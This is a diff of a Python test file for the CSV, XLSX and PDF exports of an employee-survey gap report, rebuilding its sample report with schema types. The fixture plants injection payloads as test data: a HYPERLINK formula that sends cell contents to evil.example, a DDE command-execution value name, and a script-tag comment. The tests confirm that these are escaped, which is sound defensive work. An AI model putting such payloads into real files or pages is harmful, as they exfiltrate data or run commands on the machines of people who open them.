@@ -1,6 +1,6 @@
-"""CSV, XLSX and PDF exports of a gap report snapshot (analytics/exports.py).
+"""CSV, XLSX and PDF exports of a gap report (analytics/report/exports/).
 
-Built from a small hand-made snapshot in the shape of docs/report-schema.md: no database.
+Built from a small report made with the schema's types and constructors: no database.
 """
 
 import copy
@@ -13,38 +13,21 @@ import pytest
 from openpyxl import load_workbook
 from weasyprint import HTML
 
-from analytics.exports import (
-    CLASS_EXPLANATIONS,
-    CLASS_LABELS,
-    COLUMNS,
-    SECTIONS,
-    SUPPRESSED_NOTE,
-    format_effect,
-    format_mean,
-    format_p,
-    report_csv,
-    report_pdf,
-    report_pdf_html,
-    report_rows,
-    report_xlsx,
-    round_effect,
-    round_mean,
-    round_p,
-    round_pct,
-)
-from analytics.selectors import report_scope
+from analytics.report import schema
+from analytics.report.exports import report_csv, report_pdf, report_xlsx
+from analytics.report.exports.pdf import report_pdf_html
+from analytics.report.exports.rows import COLUMNS, SECTIONS, report_rows
+from analytics.report.format import CLASS_EXPLANATIONS, CLASS_LABELS, SUPPRESSED_NOTE
+from analytics.selectors import ReportScope, report_scope
 
 OC = "open_communication"
 CF = "customer_focus"
+ENGINEERING, PLATFORM = 7, 8
 INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 PHONE_LIKE = "+1 555 is my extension, call me"
-SVG = (
-    '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="80" viewBox="0 0 300 80">'
-    '<title>gap-chart-marker</title><rect width="300" height="80" fill="#ccc"/></svg>'
-)
 
 FIGURES = {
-    # stated_vs_lived row column -> snapshot key
+    # stated_vs_lived row column -> report key
     "n_leaders": "n_leaders",
     "n_employees": "n_employees",
     "leader_mean": "leader_mean",
@@ -59,309 +42,238 @@ FIGURES = {
 }
 
 
-def _suppressed_cell(value: str, segment: str) -> dict:
-    return {
-        "value": value,
-        "segment": segment,
-        "n_leaders": None,
-        "n_employees": None,
-        "leader_mean": None,
-        "employee_mean": None,
-        "gap": None,
-        "gap_ci": None,
-        "cliffs_delta": None,
-        "effect_size": None,
-        "test": None,
-        "p_value": None,
-        "q_value": None,
-        "employee_favorable_pct": None,
-        "employee_unfavorable_pct": None,
-        "leader_span": None,
-        "classification": "suppressed",
-        "severity": None,
-        "tags": [],
-    }
+def gap_cell(value: str, segment: str = "all", **figures) -> schema.GapCell:
+    """A tested cell: a blind spot of 4 leaders and 31 employees unless `figures` say else."""
+    return schema.GapCell(
+        **{
+            "value": value,
+            "segment": segment,
+            "n_leaders": 4,
+            "n_employees": 31,
+            "leader_mean": 4.75,
+            "employee_mean": 2.7516,
+            "gap": 1.9984,
+            "gap_ci": [1.8897, 2.1062],
+            "cliffs_delta": 0.98765,
+            "effect_size": "large",
+            "test": "one_sample_t",
+            "employee_favorable_pct": 3.2258,
+            "employee_unfavorable_pct": 14.5161,
+            "leader_span": 1.0,
+            "classification": "blind_spot",
+            "severity": "critical",
+            "tags": [],
+            "p_value": 2.4935657662865295e-67,
+            "q_value": 0.012345,
+        }
+        | figures
+    )
 
 
-def make_snapshot() -> dict:
-    return {
-        "organization": "acme",
-        "organization_name": "Acme & <Co>",
-        "wave": "2026-10",
-        "waves": ["2026-09", "2026-10"],
-        "method_version": "1.0",
-        "fingerprint": "ab" * 32,
-        "min_group_size": 5,
-        "values": [
-            {"code": OC, "name": "Open communication"},
-            {"code": CF, "name": "=cmd|' /C calc'!A0"},
+def make_snapshot() -> schema.Report:
+    waves = ["2026-09", "2026-10"]
+    leavers = {"period": "2026-Q3", "waves": waves, "stayer_waves": waves}
+    return schema.Report(
+        organization="acme",
+        organization_name="Acme & <Co>",
+        wave="2026-10",
+        waves=waves,
+        method_version="1.0",
+        fingerprint="ab" * 32,
+        min_group_size=5,
+        departments=[
+            schema.Department(id=ENGINEERING, name="Engineering", parent=None),
+            schema.Department(id=PLATFORM, name="Platform", parent=ENGINEERING),
         ],
-        "responses": {"leadership": 4, "lived": 40, "onboarding": None, "exit": 0},
-        "self_deception_index": {
-            "value": 49.3825,
-            "n_values": 2,
-            "values": [OC, CF],
-            "definition": "100 × the mean, over values with enough data, of max(0, δ).",
-            "trend": [
-                {"wave": "2026-09", "value": None, "n_values": 0},
-                {"wave": "2026-10", "value": 49.3825, "n_values": 2},
+        values=[
+            schema.Value(code=OC, name="Open communication"),
+            schema.Value(code=CF, name="=cmd|' /C calc'!A0"),
+        ],
+        responses=schema.Responses(leadership=4, lived=40, onboarding=None, exit=0),
+        self_deception_index=schema.SelfDeceptionIndex(
+            value=49.3825,
+            n_values=2,
+            values=[OC, CF],
+            definition="100 × the mean, over values with enough data, of max(0, δ).",
+            trend=[
+                schema.IndexPoint(wave="2026-09", value=None, n_values=0),
+                schema.IndexPoint(wave="2026-10", value=49.3825, n_values=2),
             ],
-        },
-        "stated_vs_lived": [
-            {
-                "value": OC,
-                "segment": "all",
-                "n_leaders": 4,
-                "n_employees": 31,
-                "leader_mean": 4.75,
-                "employee_mean": 2.7516,
-                "gap": 1.9984,
-                "gap_ci": [1.8897, 2.1062],
-                "cliffs_delta": 0.98765,
-                "effect_size": "large",
-                "test": "one_sample_t",
-                "employee_favorable_pct": 3.2258,
-                "employee_unfavorable_pct": 14.5161,
-                "leader_span": 1.0,
-                "classification": "blind_spot",
-                "severity": "critical",
-                "tags": [],
-                "p_value": 2.4935657662865295e-67,
-                "q_value": 0.012345,
-            },
-            {
-                "value": OC,
-                "segment": "department:Engineering",
-                "n_leaders": 4,
-                "n_employees": 7,
-                "leader_mean": 4.75,
-                "employee_mean": 2.8214,
-                "gap": 1.9286,
-                "gap_ci": None,
-                "cliffs_delta": 1.0,
-                "effect_size": "large",
-                "test": None,
-                "employee_favorable_pct": 0.0,
-                "employee_unfavorable_pct": 14.2857,
-                "leader_span": None,
-                "classification": "insufficient_data",
-                "severity": None,
-                "tags": ["watch"],
-                "p_value": None,
-                "q_value": None,
-            },
-            _suppressed_cell(OC, "department:Platform"),
-            {
-                "value": CF,
-                "segment": "all",
-                "n_leaders": 4,
-                "n_employees": 30,
-                "leader_mean": 3.25,
-                "employee_mean": 4.1307,
-                "gap": -0.8807,
-                "gap_ci": [-0.9647, -0.792],
-                "cliffs_delta": -0.778,
-                "effect_size": "large",
-                "test": "one_sample_t",
-                "employee_favorable_pct": 71.2,
-                "employee_unfavorable_pct": 0.0,
-                "leader_span": 1.0,
-                "classification": "hidden_strength",
-                "severity": None,
-                "tags": [],
-                "p_value": 0.00031,
-                "q_value": 0.045678,
-            },
-            _suppressed_cell(CF, "department:Platform"),
+        ),
+        stated_vs_lived=[
+            gap_cell(OC),
+            gap_cell(
+                OC,
+                f"department:{ENGINEERING}",
+                n_employees=7,
+                employee_mean=2.8214,
+                gap=1.9286,
+                gap_ci=None,
+                cliffs_delta=1.0,
+                test=None,
+                employee_favorable_pct=0.0,
+                employee_unfavorable_pct=14.2857,
+                leader_span=None,
+                classification="insufficient_data",
+                severity=None,
+                tags=["watch"],
+                p_value=None,
+                q_value=None,
+            ),
+            schema.suppressed_cell(OC, f"department:{PLATFORM}"),
+            gap_cell(
+                CF,
+                n_employees=30,
+                leader_mean=3.25,
+                employee_mean=4.1307,
+                gap=-0.8807,
+                gap_ci=[-0.9647, -0.792],
+                cliffs_delta=-0.778,
+                employee_favorable_pct=71.2,
+                employee_unfavorable_pct=0.0,
+                classification="hidden_strength",
+                severity=None,
+                p_value=0.00031,
+                q_value=0.045678,
+            ),
+            schema.suppressed_cell(CF, f"department:{PLATFORM}"),
         ],
-        "calibration": [
-            {
-                "value": OC,
-                "n_leaders": 4,
-                "n_employees": 31,
-                "mean_prediction": 80.0,
-                "actual_favorable_pct": 3.2258,
-                "error": 76.7742,
-                "suppressed": False,
-            },
-            {
-                "value": CF,
-                "n_leaders": 4,
-                "n_employees": None,
-                "mean_prediction": None,
-                "actual_favorable_pct": None,
-                "error": None,
-                "suppressed": True,
-            },
+        calibration=[
+            schema.Calibration(
+                value=OC,
+                n_leaders=4,
+                n_employees=31,
+                mean_prediction=80.0,
+                actual_favorable_pct=3.2258,
+                error=76.7742,
+                suppressed=False,
+            ),
+            schema.calibration_without_figures(CF, 4, suppressed=True),
         ],
-        "calibration_mae": 76.7742,
-        "profile_agreement": {
-            "values": [OC, CF],
-            "n_values": 2,
-            "rho": None,
-            "p_value": None,
-            "q_value": None,
-        },
-        "leavers_vs_stayers": [
-            {
-                "value": OC,
-                "segment": "all",
-                "waves": ["2026-09", "2026-10"],
-                "n_exit": 12,
-                "n_lived": 71,
-                "exit_mean": 2.5972,
-                "lived_mean": 2.7616,
-                "cliffs_delta": -0.15412,
-                "test": "mann_whitney_asymptotic",
-                "leaver_signal": False,
-                "suppressed": False,
-                "p_value": 0.35896,
-                "q_value": 0.48815,
-            },
-            {
-                "value": OC,
-                "segment": "department:Engineering",
-                "waves": ["2026-09", "2026-10"],
-                "n_exit": None,
-                "n_lived": None,
-                "exit_mean": None,
-                "lived_mean": None,
-                "cliffs_delta": None,
-                "test": None,
-                "leaver_signal": None,
-                "suppressed": True,
-                "p_value": None,
-                "q_value": None,
-            },
+        calibration_mae=76.7742,
+        profile_agreement=schema.ProfileAgreement(
+            values=[OC, CF], n_values=2, rho=None, p_value=None, q_value=None
+        ),
+        exit_pool={"period": "2026-Q3", "waves": waves},
+        leavers_vs_stayers=[
+            schema.LeaversCell(
+                value=OC,
+                segment="all",
+                **leavers,
+                n_exit=12,
+                n_lived=71,
+                exit_mean=2.5972,
+                lived_mean=2.7616,
+                cliffs_delta=-0.15412,
+                test="mann_whitney_asymptotic",
+                leaver_signal=False,
+                suppressed=False,
+                p_value=0.35896,
+                q_value=0.48815,
+            ),
+            schema.suppressed_leavers(OC, f"department:{ENGINEERING}", **leavers),
         ],
-        "promised_vs_found": [
-            {
-                "value": OC,
-                "segment": "all",
-                "n": 10,
-                "mean_expected": 4.7,
-                "mean_found": 2.9,
-                "mean_difference": 1.8,
-                "rank_biserial": 1.0,
-                "share_worse": 0.9,
-                "share_equal": 0.1,
-                "share_better": 0.0,
-                "credibility_gap": True,
-                "suppressed": False,
-                "p_value": 0.00390625,
-                "q_value": 0.0081631,
-            },
-            {
-                "value": CF,
-                "segment": "all",
-                "n": None,
-                "mean_expected": None,
-                "mean_found": None,
-                "mean_difference": None,
-                "rank_biserial": None,
-                "share_worse": None,
-                "share_equal": None,
-                "share_better": None,
-                "credibility_gap": None,
-                "suppressed": True,
-                "p_value": None,
-                "q_value": None,
-            },
+        promised_vs_found=[
+            schema.PromisedCell(
+                value=OC,
+                segment="all",
+                n=10,
+                mean_expected=4.7,
+                mean_found=2.9,
+                mean_difference=1.8,
+                rank_biserial=1.0,
+                share_worse=0.9,
+                share_equal=0.1,
+                share_better=0.0,
+                credibility_gap=True,
+                suppressed=False,
+                p_value=0.00390625,
+                q_value=0.0081631,
+            ),
+            schema.promised_without_figures(CF, suppressed=True),
         ],
-        "trends": [
-            {
-                "value": OC,
-                "waves": [
-                    {"wave": "2026-09", "n": None, "mean": None},
-                    {"wave": "2026-10", "n": 31, "mean": 2.7516},
+        trends=[
+            schema.Trend(
+                value=OC,
+                waves=[
+                    schema.hidden_trend_point("2026-09"),
+                    schema.TrendPoint(wave="2026-10", n=31, mean=2.7516),
                 ],
-                "n_waves": 1,
-                "tau": None,
-                "slope": None,
-                "slope_ci": None,
-                "p_value": None,
-                "q_value": None,
-                "declining": None,
-                "change": {
-                    "from": "2026-09",
-                    "to": "2026-10",
-                    "n_previous": None,
-                    "n_current": None,
-                    "change": None,
-                    "cliffs_delta": None,
-                    "test": None,
-                    "p_value": None,
-                    "q_value": None,
-                },
-            },
+                n_waves=1,
+                tau=None,
+                slope=None,
+                slope_ci=None,
+                declining=None,
+                p_value=None,
+                q_value=None,
+                change=schema.hidden_change("2026-09", "2026-10"),
+            ),
         ],
-        "enps": {
-            "question": "enps",
-            "n": 40,
-            "promoters": 10,
-            "passives": 16,
-            "detractors": 14,
-            "score": -11.290322580645162,
-            "ci": [-24.29552237456731, 2.248278280079119],
-            "suppressed": False,
-        },
-        "reliability": [
-            {
-                "value": OC,
-                "n_items": 4,
-                "n": 30,
-                "alpha": 0.65237,
-                "alpha_ci": [0.52689, 0.74467],
-                "warning": "low",
-                "note": None,
-                "suppressed": False,
-            },
-            {
-                "value": CF,
-                "n_items": 3,
-                "n": None,
-                "alpha": None,
-                "alpha_ci": None,
-                "warning": None,
-                "note": None,
-                "suppressed": True,
-            },
+        enps=schema.Enps(
+            question="enps",
+            n=40,
+            promoters=10,
+            passives=16,
+            detractors=14,
+            score=-11.290322580645162,
+            ci=[-24.29552237456731, 2.248278280079119],
+            suppressed=False,
+        ),
+        reliability=[
+            schema.Reliability(
+                value=OC,
+                n_items=4,
+                n=30,
+                alpha=0.65237,
+                alpha_ci=[0.52689, 0.74467],
+                warning="low",
+                note=None,
+                suppressed=False,
+            ),
+            schema.reliability_without_figures(CF, 3, suppressed=True),
         ],
-        "drivers": [
-            {
-                "value": OC,
-                "outcome": "enps",
-                "question": "enps",
-                "n": 39,
-                "rho": 0.53789,
-                "suppressed": False,
-                "p_value": 0.0004,
-                "q_value": 0.00123456,
-            },
+        drivers=[
+            schema.Driver(
+                value=OC,
+                outcome="enps",
+                question="enps",
+                n=39,
+                rho=0.53789,
+                suppressed=False,
+                p_value=0.0004,
+                q_value=0.00123456,
+            ),
         ],
-        "priorities": [
-            {
-                "value": OC,
-                "priority": 1.07759,
-                "basis": "gap",
-                "driver_rho": 0.53789,
-                "gap": 1.9984,
-                "classification": "blind_spot",
-                "rank": 1,
-            },
+        priorities=[
+            schema.Priority(
+                value=OC,
+                priority=1.07759,
+                basis="gap",
+                driver_rho=0.53789,
+                gap=1.9984,
+                classification="blind_spot",
+                rank=1,
+            ),
         ],
-        "comments": {
-            "shown": True,
-            "min_group_size": 10,
-            "n_respondents": 40,
-            "items": [
-                {"question": "comment", "text": INJECTION},
-                {"question": "comment", "text": PHONE_LIKE},
-                {"question": "comment", "text": "Decisions come <script>alert(1)</script> late."},
+        comments=schema.Comments(
+            shown=True,
+            min_group_size=10,
+            n_respondents=40,
+            items=[
+                schema.Comment(question="comment", text=INJECTION),
+                schema.Comment(question="comment", text=PHONE_LIKE),
+                schema.Comment(
+                    question="comment", text="Decisions come <script>alert(1)</script> late."
+                ),
             ],
-        },
-        "multiple_comparisons": {"method": "benjamini-hochberg", "n_tests": 8},
-    }
+        ),
+        multiple_comparisons=schema.MultipleComparisons(method="benjamini-hochberg", n_tests=8),
+        withheld_for_differencing=0,
+    )
+
+
+def test_the_hand_made_report_follows_the_schema():
+    assert schema.problems(make_snapshot()) == []
 
 
 @pytest.fixture
@@ -399,35 +311,7 @@ def _figure(value) -> float | str:
         return value
 
 
-# --- Rounding ------------------------------------------------------------------------------
-
-
-def test_rounding_follows_the_pages():
-    assert round_mean(2.7516) == 2.8
-    assert round_pct(3.2258) == 3
-    assert round_effect(0.98765) == 0.99
-    # As the page's filters format a float (f"{x:.1f}"): an exact tie goes to even.
-    assert round_mean(4.75) == 4.8
-    assert round_mean(4.25) == 4.2
-    assert round_pct(2.5) == 2
-    assert round_pct(3.5) == 4
-    # A rounded zero has no minus sign.
-    assert str(round_mean(-0.04)) == "0.0"
-    assert str(round_pct(-0.4)) == "0"
-    assert round_p(0.00390625) == 0.00391
-    assert round_p(0.0556) == 0.0556
-    assert round_p(0.123456) == 0.123
-    assert round_p(1.0) == 1.0
-    assert round_p(0.001) == 0.001
-    assert round_p(0.000999) == "<0.001"
-    assert round_p(2.49e-67) == "<0.001"
-    assert format_p(0.52) == "0.52"
-    assert format_p(2.49e-67) == "<0.001"
-    assert format_mean(-0.8807, signed=True) == "\u22120.9"
-    assert format_effect(1.0, signed=True) == "+1.00"
-    assert round_mean(None) is None
-    assert round_p(None) is None
-    assert round_mean(float("nan")) is None
+# --- Rounding (the rule itself: test_format.py) ---------------------------------------------
 
 
 def test_rows_are_rounded_as_on_the_pages(snapshot):
@@ -474,7 +358,7 @@ def test_every_row_has_its_sections_columns(snapshot):
 
 def test_a_suppressed_cell_keeps_its_row_without_any_figure(snapshot):
     rows = report_rows(snapshot)
-    row = _one(rows, "stated_vs_lived", value=OC, segment="department:Platform")
+    row = _one(rows, "stated_vs_lived", value=OC, segment="department:Platform")  # named
     assert row["classification"] == "suppressed"
     assert row["note"] == SUPPRESSED_NOTE == "fewer than k responses"
     assert row["value_name"] == "Open communication"
@@ -510,8 +394,10 @@ def test_suppressed_entries_of_every_view_carry_no_figure(snapshot):
 
 def test_rows_add_no_figure_that_the_snapshot_lacks(snapshot):
     rows = report_rows(snapshot)
+    named = {"all": "all", f"department:{ENGINEERING}": "department:Engineering"}
+    named[f"department:{PLATFORM}"] = "department:Platform"
     for cell in snapshot["stated_vs_lived"]:
-        row = _one(rows, "stated_vs_lived", value=cell["value"], segment=cell["segment"])
+        row = _one(rows, "stated_vs_lived", value=cell["value"], segment=named[cell["segment"]])
         for column, key in FIGURES.items():
             assert (row[column] is None) == (cell[key] is None), (cell["segment"], column)
         assert (row["gap_ci_low"] is None) == (cell["gap_ci"] is None)
@@ -532,7 +418,8 @@ def test_comments_only_when_shown(snapshot):
 
 
 def test_a_scoped_copy_exports_only_its_segments(snapshot):
-    scoped = report_scope(data=snapshot, department_names={"Engineering"})
+    scope = ReportScope(department_ids=frozenset({ENGINEERING}), names=("Engineering",))
+    scoped = report_scope(data=snapshot, scope=scope)
     rows = report_rows(scoped)
     segments = {r["segment"] for r in rows if r["section"] == "stated_vs_lived"}
     assert segments == {"all", "department:Engineering"}
@@ -678,7 +565,7 @@ def _html(data: dict, **kwargs) -> str:
 
 
 def test_the_pdf_html_reads_as_a_report(snapshot):
-    html = _html(snapshot, charts={"gap": SVG}, generated_for="Leo Leader")
+    html = _html(snapshot, generated_for="Leo Leader")
     text = re.sub(r"\s+", " ", html)
     assert "Acme &amp; &lt;Co&gt;" in text
     assert 'Survey round</dt><dd class="round">2026-10' in text
@@ -692,11 +579,11 @@ def test_the_pdf_html_reads_as_a_report(snapshot):
     assert "100 × the mean, over values with enough data, of max(0, δ)." in text
     # Stated vs lived, in words, with n and interval.
     assert "Blind spot (critical)" in text
-    assert CLASS_EXPLANATIONS["blind_spot"] in text
+    assert str(CLASS_EXPLANATIONS["blind_spot"]) in text
     assert "Hidden strength" in text
-    assert "Not enough data · Watch" in text
+    assert "Not enough data · watch" in text
     assert "2.8 (n 31)" in text
-    assert "1.9 to 2.1" in text
+    assert "+1.9 to +2.1" in text
     assert "\u22121.0 to \u22120.8" in text
     # Calibration, promised vs found, leavers, trends, eNPS, reliability, priorities.
     assert "predicted that 80% of employees would answer favorably; 3% did" in text
@@ -705,11 +592,13 @@ def test_the_pdf_html_reads_as_a_report(snapshot):
     assert "Leavers vs stayers" in text
     assert "2026-10: <strong>2.8</strong>" in text
     assert '<span class="big">\u221211</span>' in text
-    assert "95% interval \u221224 to 2" in text
+    assert "95% interval \u221224 to +2" in text
     assert "Read with care:</span> Open communication" in text
     assert "Priorities: what to look at first" in text
-    # The chart goes in as SVG; comments are escaped text.
-    assert "<title>gap-chart-marker</title>" in text
+    # The charts go in as SVG, drawn from the report; comments are escaped text.
+    assert "Stated vs lived: leaders’ and employees’ ratings per value</title>" in text
+    assert "Calibration: leaders’ predicted vs actual % favourable, per value</title>" in text
+    assert "Self-deception index by round</title>" in text
     assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1" in text
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
     assert "<script>" not in text
@@ -726,22 +615,15 @@ def test_suppressed_cells_print_fewer_than_k_responses(snapshot):
     assert "2026-09: <em>fewer than k responses</em>" in text
 
 
-def test_the_pdf_leaves_out_hidden_comments_and_absent_charts(snapshot):
-    snapshot["comments"] = {
-        "shown": False,
-        "min_group_size": 10,
-        "n_respondents": None,
-        "items": [],
-    }
-    text = re.sub(r"\s+", " ", _html(snapshot, charts=None))
+def test_the_pdf_leaves_out_hidden_comments(snapshot):
+    snapshot["comments"] = schema.hidden_comments(10)
+    text = re.sub(r"\s+", " ", _html(snapshot))
     assert "Comments are shown only when at least 10 people answered" in text
     assert "HYPERLINK" not in text
-    assert "<svg" not in text
-    assert "<figure" not in text
 
 
 def test_the_pdf_is_an_a4_document_with_page_numbers(snapshot):
-    pdf = report_pdf(snapshot, charts={"gap": SVG}, generated_for="Leo Leader")
+    pdf = report_pdf(snapshot, generated_for="Leo Leader")
     assert pdf.startswith(b"%PDF")
     assert len(pdf) > 20_000
 
